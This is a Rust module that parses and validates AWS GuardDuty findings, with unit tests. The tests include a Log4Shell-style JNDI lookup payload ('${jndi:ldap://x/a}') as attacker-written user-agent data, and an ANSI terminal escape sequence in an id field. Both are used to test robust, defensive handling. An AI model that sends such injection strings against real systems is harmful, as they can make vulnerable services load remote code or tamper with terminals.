//! Decoding: every shape people have findings in, in either key casing.
//!
//! - an EventBridge envelope (`detail-type` "GuardDuty Finding", `source` "aws.guardduty"),
//! - a bare finding (GetFindings, console export, S3 export),
//! - a JSON array of either (the console's export),
//! - `{"Findings": [...]}` (`aws guardduty get-findings`).
//!
//! One bad finding in a batch yields an error for that finding and leaves the others.
//!
//! Bytes are decoded as a stream ([`Findings`]): a top-level array, newline-delimited
//! findings or several arrays one after the other, one element at a time, each decoded
//! straight into the typed view (no DOM) and dropped by the caller when done. PascalCase
//! findings and `{"Findings": [...]}` documents take the slower `Value` path.

use serde::Deserialize;
use serde_json::{Map, Value};

use crate::finding::wire::{Element, KeyCase, KeysRead, Scalar, Wire};
use crate::finding::{Finding, MissingField};
use crate::{casing, ids, text};

mod stream;

pub use stream::{Findings, MAX_FINDING_BYTES};

/// EventBridge `detail-type` of GuardDuty findings.
pub const DETAIL_TYPE: &str = "GuardDuty Finding";
/// EventBridge `source` of GuardDuty findings.
pub const SOURCE: &str = "aws.guardduty";
/// A top-level value (a finding, an event, a `{"Findings": [...]}` document, one line
/// of newline-delimited findings) larger than this is refused (256 MiB). Elements of a
/// top-level array have their own, smaller limit, [`MAX_FINDING_BYTES`]; the array
/// itself has none.
pub const MAX_INPUT_BYTES: usize = 256 * 1024 * 1024;

/// Why an input, or one finding in it, could not be decoded.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
pub enum DecodeError {
    /// Not JSON.
    #[error("invalid JSON at line {line}, column {column}: {message}")]
    Json {
        /// 1-based line.
        line: usize,
        /// 1-based column.
        column: usize,
        /// serde_json's message.
        message: String,
    },
    /// A value larger than its limit ([`MAX_INPUT_BYTES`], [`MAX_FINDING_BYTES`]).
    #[error("input is {size} bytes, more than the {limit}-byte limit")]
    TooLarge {
        /// Input size.
        size: usize,
        /// The limit.
        limit: usize,
    },
    /// Valid JSON of no known shape.
    #[error("{0}")]
    Shape(String),
    /// An EventBridge event that is not a GuardDuty finding.
    #[error("not a GuardDuty finding event: {field} is {actual:?}, expected {expected:?}")]
    NotGuardDuty {
        /// `source` or `detail-type`.
        field: &'static str,
        /// What the event says.
        actual: String,
        /// What it should say.
        expected: &'static str,
    },
    /// A required finding field is missing.
    #[error("missing required field `{0}`")]
    MissingField(&'static str),
    /// An identifier that reaches EC2 filters, tag values or API calls is not of its
    /// shape (see [`crate::ids`]): `*` in a filter is a wildcard.
    #[error("invalid `{field}` {value}: {rule}")]
    Invalid {
        /// Dotted path of the field, as the input spells it (`detail.id`, `Id`).
        field: String,
        /// The offending value, quoted, escaped and cut to 80 characters.
        value: String,
        /// What the value should look like.
        rule: &'static str,
    },
    /// A template placeholder was never expanded (`${name}`).
    #[error("unexpanded template placeholder {placeholder} at {path}")]
    Placeholder {
        /// The placeholder text.
        placeholder: String,
        /// Dotted path of the field holding it.
        path: String,
    },
}

/// Decodes raw bytes into findings. The outer error is for input that is not JSON at
/// all; each element of the result is one finding or the reason it was rejected.
///
/// This is [`Findings`] over a slice, collected: any input-level error (a JSON
/// syntax error outside a finding, a top-level value that is not an object) makes the
/// whole input an error, as does a syntax error in the only top-level value.
pub fn decode_bytes(bytes: &[u8]) -> Result<Vec<Result<Finding, DecodeError>>, DecodeError> {
    let mut stream = Findings::new(bytes);
    let mut out = Vec::new();
    for item in stream.by_ref() {
        out.push(item?);
    }
    if stream.single_document()
        && let [Err(e @ DecodeError::Json { .. })] = out.as_slice()
    {
        return Err(e.clone());
    }
    Ok(out)
}

/// Decodes a parsed JSON document into findings (see [`decode_bytes`]).
pub fn decode_value(value: Value) -> Result<Vec<Result<Finding, DecodeError>>, DecodeError> {
    match value {
        Value::Array(items) => Ok(items.into_iter().map(decode_one).collect()),
        Value::Object(mut map) => {
            let list = ["Findings", "findings"]
                .into_iter()
                .find(|k| matches!(map.get(*k), Some(Value::Array(_))));
            match list.and_then(|k| map.remove(k)) {
                Some(Value::Array(items)) => Ok(items.into_iter().map(decode_one).collect()),
                _ => Ok(vec![decode_one(Value::Object(map))]),
            }
        }
        other => Err(DecodeError::Shape(format!(
            "expected a finding, an EventBridge event, an array of them or {{\"Findings\": [...]}}, got {}",
            kind(&other)
        ))),
    }
}

/// Decodes one EventBridge event as the Lambda receives it: the envelope is required
/// and its `source` and `detail-type` must be GuardDuty's.
pub fn decode_event(event: Value) -> Result<Finding, DecodeError> {
    let Value::Object(mut map) = event else {
        return Err(DecodeError::Shape(format!(
            "expected an EventBridge event object, got {}",
            kind(&event)
        )));
    };
    if let Some(field) = ["source", "detail-type"]
        .into_iter()
        .find(|f| !map.contains_key(*f))
    {
        return Err(DecodeError::Shape(format!(
            "not an EventBridge event: no `{field}`"
        )));
    }
    check_envelope(&map)?;
    match map.remove("detail") {
        Some(detail @ Value::Object(_)) => finding(detail, "detail."),
        _ => Err(DecodeError::Shape(
            "EventBridge event has no `detail` object".to_owned(),
        )),
    }
}

/// One element: an envelope or a bare finding.
fn decode_one(value: Value) -> Result<Finding, DecodeError> {
    let Value::Object(mut map) = value else {
        return Err(DecodeError::Shape(format!(
            "expected a finding object, got {}",
            kind(&value)
        )));
    };
    if matches!(map.get("detail"), Some(Value::Object(_))) {
        check_envelope(&map)?;
        return match map.remove("detail") {
            Some(detail) => finding(detail, "detail."),
            None => Err(DecodeError::Shape("no `detail`".to_owned())),
        };
    }
    finding(Value::Object(map), "")
}

/// A partial envelope (no `source` or `detail-type`) is accepted; a wrong one is not.
fn check_envelope(map: &Map<String, Value>) -> Result<(), DecodeError> {
    const FIELDS: [(&str, &str); 2] = [("source", SOURCE), ("detail-type", DETAIL_TYPE)];
    for (field, expected) in FIELDS {
        if let Some(actual) = map.get(field)
            && actual.as_str() != Some(expected)
        {
            return Err(DecodeError::NotGuardDuty {
                field,
                actual: actual
                    .as_str()
                    .map_or_else(|| actual.to_string(), str::to_owned),
                expected,
            });
        }
    }
    Ok(())
}

/// One finding object; `prefix` is how error paths start (`detail.` in an envelope).
fn finding(value: Value, prefix: &str) -> Result<Finding, DecodeError> {
    let (value, pascal) = match value {
        Value::Object(map) if casing::is_pascal_case(&map) => {
            (casing::to_camel_case(Value::Object(map)), true)
        }
        other => (other, false),
    };
    let wire = match Element::deserialize(&value) {
        Ok(Element::Object(wire)) => *wire,
        _ => Wire::default(),
    };
    checked(wire, prefix, pascal, |wire| {
        Finding::from_wire_and_value(wire, value)
    })
}

/// One finding element decoded from its bytes (`text`), already read once into `wire`
/// under [`KeyCase::Adaptive`]: each finding object's keys as its first key suggested.
/// When the guess was wrong by the casing rule ([`casing::is_pascal_case`]), the
/// finding is read again in the right casing, still without a `Value`.
fn from_text(text: &[u8], wire: Wire) -> Result<Finding, DecodeError> {
    let mut wire = wire;
    let in_detail = match wire.detail.take() {
        Some(detail) => {
            check_envelope_wire(&wire)?;
            wire = *detail;
            true
        }
        None => false,
    };
    let prefix = if in_detail { "detail." } else { "" };
    let pascal = wire.is_pascal_case();
    if pascal != wire.read_as_pascal {
        let again = {
            let _case = KeysRead::as_case(if pascal {
                KeyCase::Pascal
            } else {
                KeyCase::Camel
            });
            serde_json::from_slice::<Element>(text)
        };
        wire = match again {
            Ok(Element::Object(w)) if in_detail => w.detail.map(|d| *d).unwrap_or_default(),
            Ok(Element::Object(w)) => *w,
            Ok(Element::Other(kind)) => {
                return Err(DecodeError::Shape(format!(
                    "expected a finding object, got {kind}"
                )));
            }
            Err(e) => return Err(json_error(&e)),
        };
    }
    checked(wire, prefix, pascal, |w| {
        Finding::from_text(w, text, in_detail, pascal)
    })
}

/// The checks every finding goes through, in order: placeholders in the identity
/// fields, the required fields, the shape of the identifiers; then `build`.
fn checked(
    wire: Wire,
    prefix: &str,
    pascal: bool,
    build: impl FnOnce(Wire) -> Result<Finding, MissingField>,
) -> Result<Finding, DecodeError> {
    // Only the fields that say what the finding is and where: a template left
    // unexpanded there is not a finding. Elsewhere `${...}` is data (a user agent or a
    // command line an attacker wrote, `${jndi:...}`), and refusing it would let the
    // attacker make every finding about their instance undecodable.
    let resource = wire.resource.as_ref();
    let details = resource.and_then(|r| r.instance_details.as_ref());
    let identity: [(&str, Option<&Value>); 8] = [
        ("id", wire.id.as_ref()),
        ("type", wire.type_.as_ref()),
        ("accountId", wire.account_id.as_ref()),
        ("region", wire.region.as_ref()),
        ("arn", wire.arn.as_ref()),
        ("severity", wire.severity.as_ref()),
        (
            "resource.resourceType",
            resource.and_then(|r| r.resource_type.as_ref()),
        ),
        (
            "resource.instanceDetails.instanceId",
            details.and_then(|d| d.instance_id.as_ref()),
        ),
    ];
    for (field, v) in identity {
        let Some(v) = v else { continue };
        let mut path = field.to_owned();
        if let Some((placeholder, path)) = find_placeholder(v, &mut path) {
            return Err(DecodeError::Placeholder { placeholder, path });
        }
    }
    for (key, v) in [("id", &wire.id), ("type", &wire.type_)] {
        if !matches!(v, Some(Value::String(s)) if !s.is_empty()) {
            return Err(DecodeError::MissingField(key));
        }
    }
    check_ids(&wire).map_err(|(path, value, rule)| DecodeError::Invalid {
        field: format!("{prefix}{}", if pascal { pascal_path(&path) } else { path }),
        value: format!("\"{}\"", text::escape_truncated(value, 80)),
        rule,
    })?;
    build(wire).map_err(|e| DecodeError::MissingField(e.0))
}

/// [`check_envelope`] on a decoded envelope.
fn check_envelope_wire(wire: &Wire) -> Result<(), DecodeError> {
    let fields = [
        ("source", SOURCE, &wire.source),
        ("detail-type", DETAIL_TYPE, &wire.detail_type),
    ];
    for (field, expected, actual) in fields {
        if let Some(actual) = actual
            && actual.as_str() != Some(expected)
        {
            return Err(DecodeError::NotGuardDuty {
                field,
                actual: actual
                    .as_str()
                    .map_or_else(|| actual.to_string(), str::to_owned),
                expected,
            });
        }
    }
    Ok(())
}

/// The first identifier of the wrong shape (camelCase path, value, rule): the finding
/// id, the instance id, and each network interface's id, VPC id and group ids.
fn check_ids(wire: &Wire) -> Result<(), (String, &str, &'static str)> {
    type Bad<'a> = Result<(), (String, &'a str, &'static str)>;
    fn bad<'a>(path: String, v: &'a str, ok: fn(&str) -> bool, rule: &'static str) -> Bad<'a> {
        if ok(v) { Ok(()) } else { Err((path, v, rule)) }
    }
    if let Some(Value::String(id)) = &wire.id {
        bad(
            "id".to_owned(),
            id,
            ids::is_finding_id,
            ids::FINDING_ID_RULE,
        )?;
    }
    let Some(details) = wire
        .resource
        .as_ref()
        .and_then(|r| r.instance_details.as_ref())
    else {
        return Ok(());
    };
    const AT: &str = "resource.instanceDetails";
    if let Some(Value::String(id)) = &details.instance_id {
        bad(
            format!("{AT}.instanceId"),
            id,
            ids::is_instance_id,
            ids::INSTANCE_ID_RULE,
        )?;
    }
    for (i, eni) in details.network_interfaces.0.iter().enumerate() {
        let Some(eni) = eni else { continue };
        let keys = [
            ("networkInterfaceId", &eni.network_interface_id),
            ("vpcId", &eni.vpc_id),
        ];
        for (key, v) in keys {
            if let Scalar::Str(v) = v {
                let path = format!("{AT}.networkInterfaces[{i}].{key}");
                bad(path, v, ids::is_resource_id, ids::RESOURCE_ID_RULE)?;
            }
        }
        for (j, g) in eni.security_groups.0.iter().enumerate() {
            if let Some(Scalar::Str(v)) = g.as_ref().map(|g| &g.group_id) {
                let path = format!("{AT}.networkInterfaces[{i}].securityGroups[{j}].groupId");
                bad(path, v, ids::is_resource_id, ids::RESOURCE_ID_RULE)?;
            }
        }
    }
    Ok(())
}

/// A camelCase path in the PascalCase the input used (`resource.instanceDetails` →
/// `Resource.InstanceDetails`).
fn pascal_path(path: &str) -> String {
    path.split('.')
        .map(|seg| {
            let mut c = seg.chars();
            c.next()
                .map(|f| f.to_ascii_uppercase().to_string() + c.as_str())
                .unwrap_or_default()
        })
        .collect::<Vec<_>>()
        .join(".")
}

/// The first string holding an unexpanded `${...}` template placeholder, with its path.
fn find_placeholder(value: &Value, path: &mut String) -> Option<(String, String)> {
    match value {
        Value::String(s) => {
            let start = s.find("${")?;
            let end = s[start..].find('}')?;
            Some((s[start..start + end + 1].to_owned(), path.clone()))
        }
        Value::Array(items) => items.iter().enumerate().find_map(|(i, v)| {
            let len = path.len();
            path.push_str(&format!("[{i}]"));
            let found = find_placeholder(v, path);
            path.truncate(len);
            found
        }),
        Value::Object(map) => map.iter().find_map(|(k, v)| {
            let len = path.len();
            if !path.is_empty() {
                path.push('.');
            }
            path.push_str(k);
            let found = find_placeholder(v, path);
            path.truncate(len);
            found
        }),
        _ => None,
    }
}

fn kind(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "a boolean",
        Value::Number(_) => "a number",
        Value::String(_) => "a string",
        Value::Array(_) => "an array",
        Value::Object(_) => "an object",
    }
}

/// A serde_json error as [`DecodeError::Json`].
fn json_error(e: &serde_json::Error) -> DecodeError {
    DecodeError::Json {
        line: e.line(),
        column: e.column(),
        message: strip_position(&e.to_string()),
    }
}

/// serde_json appends " at line L column C"; we report those separately.
fn strip_position(message: &str) -> String {
    match message.rfind(" at line ") {
        Some(i) => message[..i].to_owned(),
        None => message.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn bare() -> Value {
        json!({"id": "f1", "type": "CryptoCurrency:EC2/BitcoinTool.B!DNS", "severity": 8, "accountId": "111122223333"})
    }

    #[test]
    fn all_shapes_decode() {
        let envelope = json!({"detail-type": DETAIL_TYPE, "source": SOURCE, "detail": bare()});
        let pascal = json!({"Id": "f1", "Type": "CryptoCurrency:EC2/BitcoinTool.B!DNS", "Severity": 8, "AccountId": "111122223333"});
        for input in [
            bare(),
            envelope.clone(),
            json!([bare(), envelope]),
            json!({"Findings": [pascal.clone()]}),
            pascal,
        ] {
            let out = decode_value(input.clone()).unwrap_or_else(|e| panic!("{input}: {e}"));
            assert!(!out.is_empty());
            for f in out {
                let f = f.unwrap_or_else(|e| panic!("{input}: {e}"));
                assert_eq!(f.id, "f1");
                assert_eq!(f.account_id.as_deref(), Some("111122223333"));
                assert_eq!(f.severity, Some(8.0));
            }
        }
    }

    #[test]
    fn bad_inputs_are_errors_not_panics() {
        assert!(matches!(
            decode_bytes(b"{"),
            Err(DecodeError::Json { line: 1, .. })
        ));
        assert!(matches!(decode_bytes(b"42"), Err(DecodeError::Shape(_))));
        assert!(matches!(decode_bytes(b""), Err(DecodeError::Json { .. })));
        let out = decode_value(json!([1, {"id": "x"}, bare()])).unwrap_or_default();
        assert!(matches!(out[0], Err(DecodeError::Shape(_))));
        assert_eq!(
            out[1].as_ref().err(),
            Some(&DecodeError::MissingField("type"))
        );
        assert!(out[2].is_ok());
        let deep = "[".repeat(100_000);
        assert!(decode_bytes(deep.as_bytes()).is_err());
    }

    #[test]
    fn wrong_envelopes_are_rejected() {
        let forged = json!({"source": "my.app", "detail-type": DETAIL_TYPE, "detail": bare()});
        assert!(matches!(
            decode_value(forged.clone()).unwrap_or_default()[0],
            Err(DecodeError::NotGuardDuty {
                field: "source",
                ..
            })
        ));
        assert!(matches!(
            decode_event(forged),
            Err(DecodeError::NotGuardDuty {
                field: "source",
                ..
            })
        ));
        assert!(matches!(decode_event(bare()), Err(DecodeError::Shape(_))));
        let partial = json!({"region": "us-east-1", "detail": bare()});
        assert!(decode_value(partial.clone()).unwrap_or_default()[0].is_ok());
        assert!(decode_event(partial).is_err());
    }

    #[test]
    fn placeholders_are_named_in_identity_fields_and_data_elsewhere() {
        let mut f = bare();
        f["accountId"] = json!("${account_id}");
        let err = decode_value(f).unwrap_or_default().remove(0).err();
        assert_eq!(
            err,
            Some(DecodeError::Placeholder {
                placeholder: "${account_id}".to_owned(),
                path: "accountId".to_owned()
            })
        );
        // Attacker-written text (a user agent, a title quoting it) is data: a finding
        // carrying `${jndi:...}` must still decode, or the attacker could make every
        // finding about their instance fail into the dead-letter queue.
        let mut f = bare();
        f["title"] = json!("bucket ${bucket_name} is public");
        f["service"] = json!({"action": {"awsApiCallAction": {"userAgent": "${jndi:ldap://x/a}"}}});
        assert!(decode_value(f).unwrap_or_default().remove(0).is_ok());
    }

    #[test]
    fn identifiers_that_reach_filters_are_checked() {
        let invalid = |input: Value| match decode_value(input).unwrap_or_default().remove(0) {
            Err(DecodeError::Invalid { field, value, .. }) => (field, value),
            other => panic!("expected an invalid id, got {other:?}"),
        };
        let mut f = bare();
        f["id"] = json!("*");
        assert_eq!(invalid(f.clone()), ("id".to_owned(), "\"*\"".to_owned()));
        let envelope = json!({"detail-type": DETAIL_TYPE, "source": SOURCE, "detail": f});
        assert_eq!(
            decode_event(envelope.clone()).err().map(|e| e.to_string()),
            Some(format!(
                "invalid `detail.id` \"*\": {}",
                ids::FINDING_ID_RULE
            ))
        );
        assert_eq!(invalid(envelope).0, "detail.id");
        // Escaped and cut: the message itself is safe to print.
        f["id"] = json!(format!("\u{1b}[2J{}", "a".repeat(300)));
        let (_, value) = invalid(f.clone());
        assert!(
            value.starts_with("\"\\u{1b}[2Jaaa") && value.ends_with("...\""),
            "{value}"
        );
        assert_eq!(value.chars().count(), 82);
        f["id"] = json!("a".repeat(65));
        assert_eq!(invalid(f.clone()).0, "id");
        f["id"] = json!("a".repeat(64));
        assert!(decode_value(f.clone()).unwrap_or_default()[0].is_ok());

        let mut f = bare();
        f["resource"] = json!({"instanceDetails": {"instanceId": "i-0123456789abcdef0",
            "networkInterfaces": [{"networkInterfaceId": "eni-1", "vpcId": "vpc-1",
                "securityGroups": [{"groupId": "sg-1"}, {"groupId": "sg-?"}]}]}});
        assert_eq!(
            invalid(f.clone()).0,
            "resource.instanceDetails.networkInterfaces[0].securityGroups[1].groupId"
        );
        f["resource"]["instanceDetails"]["networkInterfaces"][0]["vpcId"] = json!("*");
        assert_eq!(
            invalid(f.clone()).0,
            "resource.instanceDetails.networkInterfaces[0].vpcId"
        );
        f["resource"]["instanceDetails"]["instanceId"] = json!("i-*");
        assert_eq!(invalid(f).0, "resource.instanceDetails.instanceId");
        let pascal = json!({"Id": "f1", "Type": "T:EC2/X", "Resource": {"InstanceDetails": {"InstanceId": "*"}}});
        assert_eq!(invalid(pascal).0, "Resource.InstanceDetails.InstanceId");
    }
}
